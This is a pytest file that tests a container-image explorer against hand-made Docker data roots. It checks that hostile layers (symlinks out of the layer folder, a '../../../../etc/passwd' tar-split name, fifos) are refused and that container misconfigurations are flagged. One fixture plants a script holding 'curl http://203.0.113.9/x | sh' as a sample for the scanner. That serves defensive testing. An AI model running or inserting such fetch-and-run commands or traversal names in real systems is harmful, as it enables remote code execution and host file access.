"""`docker-root:` on hand-made data roots: hostile ones (a symlink out of a layer folder, a tar-split name
that climbs, a fifo where a file should be) are reported, never followed; the evidence is never written.

The real thing (data roots written by dockerd, overlay2 and vfs) is in tests/integration/test_docker_root.py.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile

import pytest

from explorer.core.errors import SourceError
from explorer.layerfs import analyze
from explorer.sources import open_image
from explorer.sources.docker_root import chain_ids

FILES = {"etc/motd": b"hello\n", "srv/app.py": b"print('hi')\n"}


def layer_tar(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for folder in sorted({name.split("/")[0] for name in files}):
            info = tarfile.TarInfo(folder)
            info.type, info.mode = tarfile.DIRTYPE, 0o755
            tar.addfile(info)
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def tar_split(raw: bytes, names: dict[str, str] | None = None) -> bytes:
    """tar-split's JSON lines for `raw`: raw segments, and file entries (renamed per `names`)."""
    lines, pos = [], 0
    with tarfile.open(fileobj=io.BytesIO(raw)) as tar:
        for member in tar:
            lines.append({"type": 2, "payload": base64.b64encode(raw[pos:member.offset_data]).decode()})
            lines.append({"type": 1, "name": (names or {}).get(member.name, member.name), "size": member.size})
            pos = member.offset_data + member.size
    lines.append({"type": 2, "payload": base64.b64encode(raw[pos:]).decode()})
    return gzip.compress("".join(json.dumps(line) + "\n" for line in lines).encode())


def make_root(tmp_path, files=FILES, names=None, tag="demo/app:1"):
    """A one-layer overlay2 data root holding `files`; returns (root, layer folder, diff_id)."""
    root = tmp_path / "docker"
    raw = layer_tar(files)
    diff_id = "sha256:" + hashlib.sha256(raw).hexdigest()
    config = json.dumps({"architecture": "amd64", "os": "linux", "config": {"Cmd": ["sh"]},
                         "rootfs": {"type": "layers", "diff_ids": [diff_id]},
                         "history": [{"created_by": "ADD rootfs.tar /"}]}).encode()
    image_id = hashlib.sha256(config).hexdigest()
    base = root / "image" / "overlay2"
    (base / "imagedb" / "content" / "sha256").mkdir(parents=True)
    (base / "imagedb" / "content" / "sha256" / image_id).write_bytes(config)
    (base / "repositories.json").write_text(json.dumps({"Repositories": {tag.split(":")[0]: {tag: f"sha256:{image_id}"}}}))
    layer = base / "layerdb" / "sha256" / chain_ids([diff_id])[0][7:]
    layer.mkdir(parents=True)
    (layer / "cache-id").write_text("c0ffee")
    (layer / "tar-split.json.gz").write_bytes(tar_split(raw, names))
    folder = root / "overlay2" / "c0ffee" / "diff"
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return root, folder, diff_id


def state(root) -> dict:
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            st = os.lstat(os.path.join(dirpath, name))
            out[os.path.join(dirpath, name)] = (st.st_mode, st.st_size, st.st_mtime_ns, st.st_ctime_ns)
    return out


def test_a_layer_is_rebuilt_byte_for_byte(tmp_path):
    root, _folder, diff_id = make_root(tmp_path)
    before = state(root)
    log = tmp_path / "audit.jsonl"
    with open_image(f"docker-root:{root}:demo/app:1", audit_log=str(log)) as source:
        a = analyze(source)
        assert (a.layers[0].stats.digest, a.layers[0].stats.diff_id) == (diff_id, diff_id)
        assert not a.problems
        assert a.read(a.final.get("/srv/app.py")) == FILES["srv/app.py"]
    assert state(root) == before
    read = [json.loads(line)["read"] for line in log.read_text().splitlines()]
    assert str(root / "overlay2/c0ffee/diff/srv/app.py") in read and str(root / "overlay2/c0ffee/diff/etc/motd") in read


def test_a_file_changed_on_disk_is_a_digest_mismatch(tmp_path):
    root, folder, _diff_id = make_root(tmp_path)
    (folder / "srv/app.py").write_bytes(b"print('HI')\n")  # same size, other bytes
    with open_image(f"docker-root:{root}:demo/app:1") as source:
        kinds = {p.kind for p in analyze(source).problems}
    assert "digest-mismatch" in kinds  # an uncompressed blob: its digest is its diff_id, reported once


def test_a_symlink_out_of_the_layer_folder_is_not_followed(tmp_path):
    root, folder, _diff_id = make_root(tmp_path)
    outside = tmp_path / "host-secret"
    outside.mkdir()
    (outside / "app.py").write_bytes(b"print('hi')\n")  # what a followed link would read: the same bytes
    (folder / "srv" / "app.py").unlink()
    (folder / "srv").rmdir()
    (folder / "srv").symlink_to(outside)
    with open_image(f"docker-root:{root}:demo/app:1") as source:
        a = analyze(source)
    assert [p.kind for p in a.problems] == ["truncated"]
    assert "srv/app.py" in a.problems[0].message


def test_a_climbing_name_and_a_fifo_are_refused(tmp_path):
    root, folder, _diff_id = make_root(tmp_path, names={"srv/app.py": "../../../../etc/passwd"})
    with open_image(f"docker-root:{root}:demo/app:1") as source:
        a = analyze(source)
    assert [p.kind for p in a.problems] == ["truncated"] and "climbs out" in a.problems[0].message
    root2, folder2, _ = make_root(tmp_path / "two")
    (folder2 / "srv/app.py").unlink()
    os.mkfifo(folder2 / "srv/app.py")
    with open_image(f"docker-root:{root2}:demo/app:1") as source:
        a = analyze(source)
    assert [p.kind for p in a.problems] == ["truncated"] and "not a regular file" in a.problems[0].message


def test_choices_and_bad_roots(tmp_path):
    root, _folder, _diff_id = make_root(tmp_path)
    with pytest.raises(SourceError, match=r"choose an image or container .*images: demo/app:1 \("):
        open_image(f"docker-root:{root}")
    with pytest.raises(SourceError, match="no such image or container"):
        open_image(f"docker-root:{root}:nope:1")
    with pytest.raises(SourceError, match="not a Docker data root"):
        open_image(f"docker-root:{tmp_path}")
    done = subprocess.run([sys.executable, "-m", "explorer", "layers", f"docker-root:{root}:demo/app:1",
                           "--format", "json"], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["layers"][0]["created_by"] == "ADD rootfs.tar /"


def add_container(root, name="web", upper_files=None, whiteouts=(), opaque=()):
    """A stopped overlay2 container of demo/app:1 in a hand-made root: its upper folder holds
    `upper_files`, character devices 0/0 at `whiteouts`, the opaque xattr on the `opaque` folders."""
    base = root / "image" / "overlay2"
    image_id = json.loads((base / "repositories.json").read_text())["Repositories"]["demo/app"]["demo/app:1"]
    cid = hashlib.sha256(name.encode()).hexdigest()
    (base / "layerdb" / "mounts" / cid).mkdir(parents=True)
    (base / "layerdb" / "mounts" / cid / "mount-id").write_text("m0unt")
    upper = root / "overlay2" / "m0unt" / "diff"
    upper.mkdir(parents=True)
    for path, data in (upper_files or {}).items():
        (upper / path).parent.mkdir(parents=True, exist_ok=True)
        if data is None:
            (upper / path).mkdir(exist_ok=True)
        else:
            (upper / path).write_bytes(data)
    for path in whiteouts:
        (upper / path).parent.mkdir(parents=True, exist_ok=True)
        os.mknod(upper / path, 0o600 | 0o020000, os.makedev(0, 0))
    for path in opaque:
        os.setxattr(upper / path, "trusted.overlay.opaque", b"y")
    (root / "containers" / cid).mkdir(parents=True)
    (root / "containers" / cid / "config.v2.json").write_text(json.dumps({
        "ID": cid, "Name": f"/{name}", "Image": image_id, "State": {"Status": "exited"},
        "Config": {"Cmd": ["sh"], "Env": ["API_TOKEN=ghp_" + "Z" * 36]},
        "MountPoints": {"/var/run/docker.sock": {"Source": "/var/run/docker.sock",
                                                 "Destination": "/var/run/docker.sock", "RW": True,
                                                 "Type": "bind"}}}))
    (root / "containers" / cid / "hostconfig.json").write_text(json.dumps({"PidMode": "host"}))
    return cid


@pytest.mark.skipif(os.geteuid() != 0, reason="whiteouts are character devices and opaque folders trusted.* "
                                               "xattrs: only root can make them")
def test_an_overlay2_container_offline(tmp_path):
    from explorer.detectors.base import ScanOptions
    from explorer.detectors.registry import build_detectors
    from explorer.scan.engine import scan
    from explorer.core.model import EntryKind

    root, _folder, _diff_id = make_root(tmp_path, files={**FILES, "srv/old/a": b"a", "srv/old/b": b"b"})
    cid = add_container(root, upper_files={"srv": None, "srv/old": None, "srv/old/new": b"new",
                                           "tmp/.x/run.sh": b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"},
                        whiteouts=("etc/motd",), opaque=("srv/old",))
    before = state(root)
    for ref in ("container:web", f"container:{cid[:12]}", "web"):
        with open_image(f"docker-root:{root}:{ref}") as source:
            result = scan(source, build_detectors(ScanOptions()))
            a = result.analysis
            top = a.layers[-1]
            assert top.ref.created_by == "runtime changes (container web)"
            assert {(e.path, e.kind) for e in top.entries if e.is_whiteout} == {
                ("/etc/motd", EntryKind.WHITEOUT), ("/srv/old", EntryKind.OPAQUE)}
            final = sorted(p for p in a.final.entries if p != "/")
            assert final == ["/etc", "/srv", "/srv/app.py", "/srv/old", "/srv/old/new", "/tmp", "/tmp/.x",
                             "/tmp/.x/run.sh"]
            rules = {f.rule_id for f in result.findings}
            assert {"misconfig.container.docker-socket-mount", "misconfig.container.host-namespace"} <= rules
            assert all("Z" * 12 not in f.evidence for f in result.findings)
            assert source.config.cmd == ("sh",) and source.config.runtime["Name"] == "web"
    assert state(root) == before
